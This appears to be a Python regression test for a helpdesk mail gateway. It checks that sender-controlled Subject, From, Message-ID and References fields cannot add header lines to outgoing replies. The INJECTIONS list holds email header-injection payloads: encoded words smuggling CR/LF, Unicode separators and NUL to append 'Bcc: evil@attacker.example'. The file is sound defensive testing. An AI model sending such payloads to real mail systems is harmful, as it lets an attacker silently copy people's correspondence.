"""A6: no field of a stranger becomes a header line of ours (RT CVE-2012-4730, CVE-2013-3373).

The sender is proved by DMARC here, so that his subject and name do stand in our mail.
"""

import base64
import re

from attack import ready, sent_bytes, take
from harness import mail

OURS = {"Date", "From", "To", "Reply-To", "Subject", "Message-ID", "In-Reply-To", "References", "Auto-Submitted",
        "X-Auto-Response-Suppress", "X-Loop", "MIME-Version", "Content-Type", "Content-Transfer-Encoding"}
EVIL = "Bcc: evil@attacker.example"


def encoded(text, charset="utf-8"):
    return f"=?{charset}?b?{base64.b64encode(text.encode()).decode()}?="


INJECTIONS = [
    encoded(f"a\r\n{EVIL}"), encoded(f"a\n{EVIL}"), encoded(f"a\r{EVIL}"), encoded(f"a\r\n\r\n{EVIL}"), encoded(f"a\0\r\n{EVIL}"),
    f"=?utf-8?q?a=0D=0A{EVIL.replace(' ', '_')}?=", encoded("a\r") + " " + encoded(f"\n{EVIL}"),
    encoded(f"a\u2028{EVIL}"), encoded(f"a\x85{EVIL}"), encoded(f"a\x0b{EVIL}"), encoded("a" * 3000 + f"\r\n{EVIL}"),
    encoded(f"=?utf-8?q?=0D=0A{EVIL.replace(' ', '_')}?="), "\"a\" <x@y>, evil@attacker.example",
]


def fields(data):
    """Names of the header lines on the wire, and what stands behind the empty line."""
    head, _, body = data.partition(b"\r\n\r\n")
    lines = re.sub(rb"\r\n[ \t]", b" ", head).split(b"\r\n")
    assert all(re.match(rb"[A-Za-z-]+: ", line) for line in lines), lines
    return [line.split(b":")[0].decode() for line in lines], body


def attacks(where):
    """A mail for each injection, from a proved sender, with his envelope sender."""
    for n, text in enumerate(INJECTIONS):
        sender = f"c{n}.{where.lower()}@client.example.net"
        more = {"Authentication_Results": "mx.example.com; dmarc=pass"}
        if where == "From":
            yield mail(sender=f"{text} <{sender}>", **more), sender
        elif where == "Subject":
            yield mail(subject=text, sender=sender, **more), sender
        else:
            header = {where.replace("-", "_"): f"<{text}@client.example.net>"}
            if where == "Message-ID":
                yield mail(sender=sender, **more).replace(b"Message-ID: <m", b"Message-ID: <" + text.encode() + b"m", 1), sender
            else:
                yield mail(sender=sender, **more, **header), sender


def test_no_line_is_added(gateway):
    ready(gateway, authserv_id="mx.example.com")
    gateway.raise_limits()
    for where in ("Subject", "From", "Message-ID", "References"):
        take(gateway, *attacks(where))
    gateway.work()
    # A desk's answer carries the customer's name, subject and ids as well.
    gateway.run("agent", "add", "anna")
    tickets = [one["reference"] for one in gateway.tickets()]
    for reference in tickets:
        gateway.run("ticket", "reply", reference, "--as", "anna", input="Hello\n")
    gateway.work()
    left = sent_bytes(gateway)
    assert len(tickets) == 4 * len(INJECTIONS) and len(left) >= 1.5 * len(tickets)
    for data in left:
        names, body = fields(data)
        assert set(names) <= OURS and len(names) == len(set(names)), names
        # An answer of the desk, or an acknowledgement in its two forms: nothing stands between the header and either.
        boundary = re.search(rb'boundary="?([^";\s]+)', data.partition(b"\r\n\r\n")[0])
        assert body.startswith(b"--" + boundary.group(1) + b"\r\nContent-Type: text/plain" if boundary else b"Hello")
        assert b"\0" not in data and not re.search(rb"(?<!\r)\n|\r(?!\n)", data)
    gateway.audit()
